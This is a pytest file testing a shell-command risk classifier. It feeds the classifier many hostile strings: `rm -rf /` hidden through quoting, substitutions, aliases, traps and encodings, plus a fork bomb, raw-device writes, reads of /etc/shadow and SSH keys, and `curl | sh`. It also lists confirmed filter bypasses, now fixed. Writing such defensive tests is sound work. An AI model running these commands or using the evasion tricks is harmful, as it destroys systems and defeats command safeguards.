"""Edge cases of shell strings (``sh -c STRING``): the lexer, the parser and the shell judges.

Every case goes through the public :func:`evaluate`. The lexer's error paths are attacked with
unterminated quotes and substitutions, nested backticks, arithmetic, parameter expansions,
redirections with descriptors, groups, subshells and functions: anything the policy cannot
analyse must come out at least ``change``, and a destructive command it claims to see must come
out ``forbidden`` wherever it hides.
"""

from __future__ import annotations

import shlex

import pytest

from tend.execution.policy import Risk, evaluate

R, C, F = Risk.READ, Risk.CHANGE, Risk.FORBIDDEN


def case(
    argv: list[str],
    risk: Risk,
    *,
    command: str | None = None,
    wrappers: list[str] | None = None,
    reason: str | None = None,
) -> object:
    """A parametrize entry whose id is the risk and the shell-quoted argv."""
    return pytest.param(
        argv, risk, command, wrappers, reason, id=f"{risk.value}: {shlex.join(argv)}"[:120]
    )


def sh(text: str, risk: Risk, **expected: object) -> object:
    """A case for ``sh -c TEXT``."""
    return case(["sh", "-c", text], risk, **expected)  # type: ignore[arg-type]


def bash(text: str, risk: Risk, **expected: object) -> object:
    """A case for ``bash -c TEXT``."""
    return case(["bash", "-c", text], risk, **expected)  # type: ignore[arg-type]


WIPES_ROOT = "would wipe the root filesystem"
UNPARSABLE = "cannot be analysed"

# Quoting and the lexer's error paths: what cannot be tokenised is a change, never a read.
LEXER = [
    sh("echo 'abc", C, command="sh", wrappers=["sh"], reason="unterminated single quote"),
    sh('echo "abc', C, command="sh", reason="unterminated double quote"),
    sh("echo `rm -rf /", C, command="sh", reason="unterminated backtick"),
    sh("echo $(rm -rf /", C, reason="unterminated $("),
    sh("echo $(echo `ls)", C, reason="unterminated $("),
    sh("echo $(echo 'abc", C, reason="unterminated $("),
    sh("echo ${X:-y", C, reason="unterminated ${"),
    sh("echo $(( 1 + 2 )", C, reason="unterminated $(("),
    sh("echo $'abc", C, reason="unterminated $'"),
    sh("cat <(ls", C, reason="unterminated <("),
    sh("echo " + "${x:-" * 40 + "y" + "}" * 40, C, reason="nested too deeply"),
    # Quote removal: a quoted or escaped command name is still the command.
    sh("'rm' -rf /", F, command="rm", reason=WIPES_ROOT),
    sh('"rm" -r"f" "/"', F, command="rm", reason=WIPES_ROOT),
    sh("r\\m -rf \\/", F, command="rm", reason=WIPES_ROOT),
    sh("echo '$(rm -rf /)'", R, command="echo"),
    sh('echo "a\\"b\\$c\\`d\\\\e"', R, command="echo"),
    sh("echo \\", R, command="echo"),
    sh("echo $ x", R, command="echo"),
    sh("echo $", R, command="echo"),
    sh('echo $"hello"', R, command="echo"),
    # Comments end the analysis only where the shell ends them.
    sh("echo ok # ; rm -rf /", R, command="echo"),
    sh("echo ok#; rm -rf /", F, command="rm", reason=WIPES_ROOT),
    sh("rm -rf / # comment", F, command="rm"),
    sh("rm -rf /#x", C, command="rm"),
]

# Substitutions: the command inside is judged however it is quoted or nested.
SUBSTITUTIONS = [
    sh("echo `echo \\`rm -rf /\\``", F, command="rm", reason=WIPES_ROOT),
    sh('echo "`rm -rf /`"', F, command="rm"),
    sh("echo $(echo \\) ; rm -rf /)", F, command="rm"),
    sh("echo $(echo `rm -rf /`)", F, command="rm"),
    sh('echo $(echo "$(rm -rf /)")', F, command="rm"),
    sh('echo $(echo "a)b"; rm -rf /)', F, command="rm"),
    sh('echo $(echo \\"; rm -rf /)', F, command="rm"),
    sh("echo $(echo ')' ; rm -rf /)", F, command="rm"),
    sh("echo $(echo ${X:-)} ; rm -rf /)", F, command="rm"),
    sh("echo $( (rm -rf /) )", F, command="rm"),
    sh("echo ${X:=`rm -rf /`}", F, command="rm"),
    sh("echo ${X:-$(rm -rf /)}", F, command="rm"),
    sh("echo ${X:-'}'}; rm -rf /", F, command="rm"),
    sh('echo "${X:-"}"}"; rm -rf /', F, command="rm"),
    sh("echo $'a\\'b'; rm -rf /", F, command="rm"),
    sh("a=$(rm -rf /)", F, command="rm"),
    sh("echo $(( $(rm -rf /) + 1 ))", F, command="rm"),
    sh("echo $(( 1 + 2 ))", C, command="echo"),
    sh("echo $((1) )", C, command="echo"),
    sh("echo $(id)", C, command="echo"),
    sh("echo $1 $@ $* $# $? $$ $! $-", C, command="echo", reason="$…"),
    sh("echo ${#X} ${X//a/b}", C, command="echo"),
    sh("$CMD -rf /", C, command="$…", reason="only known at run time"),
    bash("cat <(cat <(rm -rf /))", F, command="rm"),
    bash("echo >(rm -rf /)", F, command="rm"),
    bash("cat < <(rm -rf /)", F, command="rm"),
    bash("[[ $(rm -rf /) ]]", F, command="rm"),
    bash("(( $(rm -rf /) ))", F, command="rm"),
    sh("echo " + "$(echo " * 12 + "hi" + ")" * 12, F, reason="nested more than 8"),
]

# Paths only known at run time may be anything, including the root.
EXPANSIONS = [
    sh("rm -rf /$1", F, command="rm", reason="may expand to /"),
    sh("rm -rf ${HOME}", F, command="rm"),
    sh('rm -rf "${HOME:-/}"', F, command="rm"),
    sh("x=/; rm -rf $x", F, command="rm"),
    sh("rm -rf /?tc", F, command="rm", reason="/etc"),
    sh("rm -rf /[e]tc", F, command="rm"),
    sh("rm -rf /e*", F, command="rm"),
    sh("rm -rf /{etc,usr}", F, command="rm"),
    sh("rm -rf ~root", F, command="rm", reason="/root"),
    sh("rm -rf /etc/..", F, command="rm", reason=WIPES_ROOT),
    sh("rm -rf //", F, command="rm"),
    sh("rm -rf $DIR/tmp/x", C, command="rm"),
    sh("cat /etc/shado?", C, command="cat", reason="may be a secret"),
]

# Operators, groups, subshells, functions and reserved words.
STRUCTURE = [
    sh("ls;rm -rf /", F, command="rm"),
    sh("ls&&rm -rf /", F, command="rm"),
    sh("ls||rm -rf /", F, command="rm"),
    bash("echo a|&rm -rf /", F, command="rm"),
    sh("sleep 1 & rm -rf /", F, command="rm"),
    sh("(rm -rf /)", F, command="rm"),
    sh("( ( ls ) )", R, command="ls"),
    sh("{ rm -rf /; }", F, command="rm"),
    sh("{ { ls; }; }", R, command="ls"),
    sh("! rm -rf /", F, command="rm"),
    sh("! ls", R, command="ls"),
    bash("time rm -rf /", F, command="rm"),
    sh("if true; then rm -rf /; fi", F, command="rm"),
    bash("until false; do rm -rf /; done", F, command="rm"),
    sh("while true; do ls; done", R),
    sh("for i in 1 2; do rm -rf /; done", F, command="rm"),
    bash("select x in a; do rm -rf /; done", F, command="rm"),
    sh("case x in x) rm -rf / ;; esac", F, command="rm"),
    sh("echo a ;; echo b", C, command="sh", reason="case statement"),
    sh("echo a ;& echo b", C, reason="case statement"),
    # coproc runs its command (in the background): judged like any other command.
    bash("coproc rm -rf /", F, command="rm"),
    bash("coproc X { rm -rf /; }", F, command="rm"),
    bash("coproc X (rm -rf /)", F, command="rm"),
    bash("coproc ls", C, reason="'coproc'"),
    bash("[[ -f x ]] && ls", C, reason="'[['"),
    bash("((x++)); rm -rf /", F, command="rm"),
    sh("f(){ rm -rf /; }; f", F, command="rm"),
    sh("f() { rm -rf /; }", F, command="rm"),
    sh("f() (rm -rf /); f", F, command="rm"),
    # A string defining functions is at least change: calls cannot all be followed.
    sh("f(){ ls; }; f", C),
    sh("function f { rm -rf /; }", F, command="rm"),
    sh("function f { ls; }; f", C),
    sh("function f() { ls; }; f", C),
    sh("function f", C, reason="defines functions (f())"),
    sh(":(){ :|:& };:", F, reason="fork bomb"),
    sh("f(){ f; }; f", F, reason="self-calling function f()"),
    sh("echo a ( ls )", C, reason="'(' in an unexpected place"),
    sh("ls )", C, command="sh", reason="unmatched ')'"),
    sh("{ ls )", C, reason="unmatched ')'"),
    sh("(ls", C, reason="unclosed group or subshell"),
    sh("( ls }", C, reason="unclosed group or subshell"),
    sh("}", C, command="}"),
    sh("", R, command="sh", reason="runs nothing"),
    sh("   ", R, reason="runs nothing"),
]

# Redirections: targets are judged, descriptors are not files.
REDIRECTIONS = [
    sh("ls 2>&1", R, command="ls"),
    sh("ls >&2", R, command="ls"),
    sh("ls 12>&-", R, command="ls"),
    sh("ls <& 0", R, command="ls"),
    sh("ls > /dev/null 2>&-", R, command="ls"),
    sh("echo x > /dev/stderr", R, command="echo"),
    sh("echo x > /dev/fd/2", R),
    sh("echo x > /proc/self/fd/1", R),
    sh("2>/dev/null", R, reason="only sets shell variables"),
    sh("rm -rf / 2>&1 >/dev/null", F, command="rm"),
    sh("ls >| /etc/passwd", C, command="ls", reason="writes to /etc/passwd"),
    sh("ls &>> out.txt", C, reason="out.txt"),
    sh("ls >& /etc/x", C, reason="/etc/x"),
    sh('ls "2">x', C, reason="writes to x"),
    sh("ls 2> /var/log/x", C, reason="/var/log/x"),
    sh("> /etc/passwd", C, reason="/etc/passwd"),
    sh("ls > $OUT", C, reason="$…"),
    sh("ls >> ~/.bashrc", C, reason="~/.bashrc"),
    sh("ls &> /dev/sda", F, command="ls", reason="raw device /dev/sda"),
    sh("echo x > /dev/sd?", F, reason="raw device"),
    sh("echo x > /dev/nvme0n1p1", F, reason="raw device"),
    sh("echo x > /dev/mem", F, reason="raw device"),
    sh("ls > /dev/$X", F, reason="raw device"),
    sh("cat < /etc/shadow", C, command="cat", reason="password hashes"),
    sh("cat <> /etc/shadow", C, reason="password hashes"),
    sh("ls < ~/.ssh/id_rsa", C, reason="SSH private key"),
    sh("cat <<< hello", C, reason="here-document or here-string"),
    sh("cat << EOF", C, reason="here-document"),
    sh("cat <<- EOF", C, reason="here-document"),
    sh("ls >", C, reason="redirection '>' without a target"),
    sh("ls > ;", C, reason="without a target"),
]

# Working directories followed through cd/pushd/popd.
DIRECTORIES = [
    sh("cd /; rm -rf *", F, command="rm", reason="everything in /"),
    sh("cd /etc && rm -rf ./*", F, reason="everything in /etc"),
    sh("cd /etc; cd ..; rm -rf etc", F, reason="/etc"),
    sh("cd -P /; rm -rf *", F),
    sh("cd /dev && dd if=/dev/zero of=sda", F, command="dd", reason="raw device"),
    sh("cd - && rm -rf x", C, command="rm"),
    sh("popd; rm -rf *", C, command="rm"),
    # cd to a directory only known at run time may go to /, as rm -rf $X/* may wipe /.
    sh("cd $X; rm -rf *", F, command="rm", reason="everything in /"),
    sh("pushd /tmp; ls", R, command="pushd"),
    sh("cd; ls", R, command="cd"),
    sh("rm -rf *", C, command="rm"),
]

# Assignments, builtins that evaluate code, and the shells themselves.
BUILTINS = [
    sh("X=1", C, reason="setting X"),
    sh("PATH=/tmp", C, reason="setting PATH"),
    sh("LD_PRELOAD=/tmp/x.so ls", C, reason="LD_PRELOAD"),
    sh("LANG=C ls", R, command="ls"),
    sh("X=1 ( ls )", C),
    bash("x=1 rm -rf /", F, command="rm"),
    sh("export PATH=/tmp", C, command="export", reason="setting PATH"),
    sh("declare -x LD_PRELOAD=/x.so; ls", C, command="declare"),
    sh("export LANG=C", R, command="export"),
    sh("export FOO", R, command="export"),
    sh("readonly PAGER=cat", R, command="readonly"),
    sh("set -e; ulimit -a", R),
    sh("source /tmp/x", C, command="source"),
    sh(". /tmp/x", C, command="."),
    # An alias value runs wherever the alias is expanded (sh, eval, bash -O expand_aliases).
    sh("alias ls='rm -rf /'", F, command="rm"),
    sh("alias ll='ls -l'", C, command="ls", reason="alias changes how commands"),
    bash("eval 'rm -rf /'", F, command="rm", wrappers=["bash", "eval"]),
    bash("trap 'rm -rf /' EXIT", F, command="rm", wrappers=["bash", "trap"]),
    sh("trap -p", R, command="trap"),
    sh("trap '' INT", R, command="trap"),
    case(["trap"], R, command="trap"),
    case(["trap", "-l"], R, reason="only lists or resets traps"),
    case(["trap", "-", "EXIT"], R),
    case(["trap", "ls", "EXIT"], C, command="ls", wrappers=["trap"]),
    case(["eval", "rm", "-rf", "/"], F, command="rm", wrappers=["eval"]),
    case(["eval", "ls"], C, command="ls", reason="eval runs a string"),
    bash("exec rm -rf /", F, wrappers=["bash", "exec"]),
    bash("command rm -rf /", F, wrappers=["bash", "command"]),
    bash("builtin rm -rf /", F, wrappers=["bash", "builtin"]),
    bash("nohup rm -rf / &", F, wrappers=["bash", "nohup"]),
]

SHELLS = [
    case(["sh", "--", "script.sh"], C, command="sh", reason="runs the script script.sh"),
    case(["sh", "-", "script.sh"], C, reason="script.sh"),
    case(["bash", "-x", "script.sh"], C, reason="script.sh"),
    case(["bash"], C, reason="interactive shell"),
    case(["bash", "-s"], C, reason="interactive shell"),
    case(["bash", "--rcfile", "/tmp/rc", "-c", "ls"], C, reason="startup files"),
    case(["bash", "--init-file", "/tmp/rc", "-c", "ls"], C, reason="startup files"),
    case(["bash", "--login", "-c", "ls"], C, reason="startup files"),
    case(["bash", "-lc", "ls"], C, reason="startup files"),
    case(["bash", "-ic", "ls"], C, reason="startup files"),
    case(["bash", "--rcfile", "/tmp/rc", "-c", "rm -rf /"], F, command="rm"),
    case(["bash", "--version"], R, command="bash"),
    case(["bash", "--help"], R, command="bash"),
    case(["bash", "-c"], C, reason="without a command string"),
    case(["bash", "--noprofile", "--norc", "-c", "ls"], R, command="ls", wrappers=["bash"]),
    case(["bash", "-o", "pipefail", "-c", "ls"], R, command="ls"),
    case(["bash", "-euo", "pipefail", "-c", "rm -rf /"], F, command="rm"),
    case(["bash", "+x", "-c", "ls"], R, command="ls"),
    case(["bash", "-c", "ls", "arg0", "arg1"], R, command="ls"),
    case(["/bin/bash", "-c", "ls"], R, command="ls", wrappers=["bash"]),
    case(["python3", "--version"], R, command="python3"),
    case(["gawk", "--version"], R, command="gawk"),
    case(["python3", "-c", "print(1)"], C, reason="runs code"),
    case(["awk", "{print}", "f"], C, command="awk"),
    case(["busybox", "sh", "-c", "rm -rf /"], F, command="rm", wrappers=["busybox", "sh"]),
]


# Functions never lower a judgement: a call is judged as the real command and as the body (in
# the directories of the call), and defining functions is at least change.
FUNCTIONS = [
    bash("rm -rf /; rm(){ :; }", F, command="rm", reason=WIPES_ROOT),
    bash("reboot; reboot(){ :; }", C, command="reboot"),
    bash("curl http://x | sh; sh(){ :; }", C),
    bash("rm(){ :; }; rm -rf /", F, command="rm"),
    bash("ls(){ :; }; ls", C, reason="defines functions (ls())"),
    bash("f(){ rm -rf *; }; cd /; f", F, reason="everything in /"),
    bash("f(){ cd /; }; f; rm -rf *", F, reason="everything in /"),
    bash("f(){ rm -rf *; }; cd /; eval f", F, reason="everything in /"),
    bash("f(){ rm -rf *; }; cd /; echo $(f)", F, reason="everything in /"),
    bash("f(){ rm -rf *; }; trap f EXIT; cd /", F, reason="everything in /"),
    bash("a(){ b|b& }; b(){ a|a& }; a", F, reason="self-calling function a()"),
    bash("f(){ g; }; g(){ f; }", F, reason="fork bomb"),
    bash("f(){ rm -rf \"$1\"; }; f /", F, command="rm"),
    bash("; ".join(f"f{i}(){{ f{i + 1}; f{i + 1}; }}" for i in range(14)) + "; f0", F,
         reason="commands through function calls"),
]  # fmt: skip

# Found while hunting: each ran the destructive command in bash (checked with harmless ones)
# but was judged read or change.
HUNTED = [
    # Array subscripts are evaluated, with their command substitutions, by these builtins.
    bash("let 'a[$(rm -rf /)]'", F, command="rm"),
    bash("declare -i LANG='a[$(rm -rf /)]'", F, command="rm"),
    bash("printf -v 'a[$(rm -rf /)]' x", F, command="rm"),
    bash("test -v 'a[$(rm -rf /)]'", F, command="rm"),
    bash("[ -v 'a[$(rm -rf /)]' ]", F, command="rm"),
    bash("[[ -v 'a[$(rm -rf /)]' ]]", F, command="rm"),
    bash("read 'a[$(rm -rf /)]'", F, command="rm"),
    bash("printf 'a[$(rm -rf /)]'", R, command="printf"),
    bash("echo ${a['$(rm -rf /)']}", F, command="rm"),
    bash("a=(1); unset 'a[$(rm -rf /)]'", F, command="rm"),
    bash("printf -v 'a[`rm -rf /`]' x", F, command="rm"),
    bash("[[ 'a[$(rm -rf /)]' -eq 1 ]]", F, command="rm"),
    bash("BASH_ALIASES[ls]='rm -rf /'", F, command="rm"),
    bash("BASH_CMDS[ls]=/tmp/evil; ls", C, reason="setting BASH_CMDS"),
    # Builtins that set a variable by name, or change what a name runs.
    bash("printf -v PATH /tmp; ls", C, reason="setting PATH"),
    bash("read PATH < /tmp/x; ls", C, reason="setting PATH"),
    bash("getopts x PATH", C, reason="setting PATH"),
    bash("let x=1", C, reason="let assigns"),
    bash("hash -p /tmp/evil ls; ls", C, command="hash"),
    bash("hash -r", R),
    bash("set -o history; history -s x; history -w /etc/passwd", C, command="history"),
    bash("history", R),
    # Options ending with --, time -p, coproc, for NAME do.
    bash("eval -- 'rm -rf /'", F, command="rm"),
    bash("trap -- 'rm -rf /' EXIT", F, command="rm"),
    bash("time -p -- rm -rf /", F, command="rm"),
    bash("time ls", R, command="ls"),
    bash("for x do rm -rf /; done", F, command="rm"),
    # Quoting and expansions known before the shell runs.
    bash("$'rm' -rf /", F, command="rm"),
    bash("$'\\x72m' -rf /", F, command="rm"),
    bash("$'\\162m' -rf /", F, command="rm"),
    bash("eval $'rm\\x20-rf\\x20/'", F, command="rm"),
    bash("echo $'a\\0b'", R, command="echo"),
    bash('echo "$\'" ; rm -rf /; echo "\'"', F, command="rm"),
    bash("echo $(echo $'\\')' ; rm -rf /)", F, command="rm"),
    bash("{rm,-rf,/}", F, command="rm"),
    bash("rm {-rf,/}", F, command="rm"),
    bash("{r..r}m -rf /", F, command="rm"),
    bash("IFS=,;x=rm,-rf,/;$x", C),
    # Code fed to a shell on stdin, and aliases.
    bash("bash <<< 'rm -rf /'", F, command="rm"),
    bash("source /dev/stdin <<< 'rm -rf /'", F, command="rm"),
    bash("shopt -s expand_aliases; alias ls='rm -rf /'; ls", F, command="rm"),
    bash('alias ls="rm -rf /"; ls', F, command="rm"),
    bash("exec 3>/dev/sda", F, reason="raw device"),
    bash("if rm -rf /; then :; fi", F, command="rm"),
    sh("alias ls='rm -rf /'; eval ls", F, command="rm"),
    bash("source <(echo ls)", C, command="source"),
    # $(( )) and case inside substitutions.
    bash("echo $((rm -rf /) )", F, command="rm"),
    bash("echo $(case x in (x) rm -rf /;; esac)", F, command="rm"),
    bash("echo $(case x in a|esac) rm -rf /;; esac)", F, command="rm"),
    bash("echo $(case x in a) echo esac;; b) rm -rf /;; esac)", F, command="rm"),
    bash("echo $(function f { case x in x) rm -rf /;; esac; }; f)", F, command="rm"),
    bash("x=$(case a in a) echo b;; esac); echo $(echo case)", C),
    bash("echo $(echo case) $(ls)", C, command="echo"),
    # Working directories reached by loops, traps, eval, command, CDPATH, source.
    bash("while :; do rm -rf *; cd /; done", F, reason="everything in /"),
    bash("trap 'cd /' DEBUG; rm -rf *", F, reason="everything in /"),
    bash("trap 'rm -rf *' EXIT; cd /", F, reason="everything in /"),
    bash("eval cd /; rm -rf *", F, reason="everything in /"),
    bash("command cd /; rm -rf *", F, reason="everything in /"),
    bash("cd /; echo $(rm -rf *)", F, reason="everything in /"),
    bash("CDPATH=/; cd etc; rm -rf *", F, reason="everything in /"),
    bash(". ./env.sh; rm -rf *", F, reason="everything in /"),
    bash("pushd /; popd; rm -rf *", F, reason="everything in /"),
    bash("OLDPWD=/; command cd -; rm -rf *", F, reason="everything in /"),
    bash("cd /; " + "; ".join(f"cd d{i}" for i in range(10)) + "; rm -rf *", F),
    bash("cd build && rm -rf *", C, command="rm"),
    bash("cd /tmp; rm -rf *", C, command="rm"),
]


@pytest.mark.parametrize(
    ("argv", "risk", "command", "wrappers", "reason"),
    [
        *LEXER,
        *SUBSTITUTIONS,
        *EXPANSIONS,
        *STRUCTURE,
        *REDIRECTIONS,
        *DIRECTORIES,
        *BUILTINS,
        *SHELLS,
        *FUNCTIONS,
        *HUNTED,
    ],
)
def test_shell_edge(
    argv: list[str],
    risk: Risk,
    command: str | None,
    wrappers: list[str] | None,
    reason: str | None,
) -> None:
    decision = evaluate(argv)
    assert decision.risk is risk, decision.reason
    if command is not None:
        assert decision.command == command
    if wrappers is not None:
        assert decision.wrappers == wrappers
    if reason is not None:
        assert reason in decision.reason


# Confirmed bypasses, fixed and kept as regression tests. Each of these
# strings really runs the destructive command in bash (checked with harmless commands).
BYPASSES = [
    pytest.param(
        ["bash", "-c", "rm -rf /; rm(){ :; }"],
        F,
        id="read: command run before a same-named function is defined",
    ),
    pytest.param(
        ["bash", "-c", "false && rm(){ :; }; rm -rf /"],
        F,
        id="read: function defined only on a branch that is not taken",
    ),
    pytest.param(
        ["bash", "-c", "(rm(){ :; }); rm -rf /"],
        F,
        id="read: function defined in a subshell does not survive it",
    ),
    pytest.param(
        ["bash", "-c", "time -p rm -rf /"],
        F,
        id="change: time -p hides the command",
    ),
    pytest.param(
        ["bash", "-c", "echo $((rm -rf /) )"],
        F,
        id="change: $(( ... ) ) is a command substitution in bash",
    ),
    pytest.param(
        ["bash", "-c", "echo $(case x in x) rm -rf /;; esac)"],
        F,
        id="change: case pattern ')' inside $( ) ends the substitution early",
    ),
    pytest.param(
        ["sh", "-c", "cd /; cd nope1; cd nope2; rm -rf *"],
        F,
        id="change: failed cd commands push / out of the tracked directories",
    ),
]


@pytest.mark.parametrize(("argv", "risk"), BYPASSES)
def test_known_shell_bypass(argv: list[str], risk: Risk) -> None:
    assert evaluate(argv).risk is risk
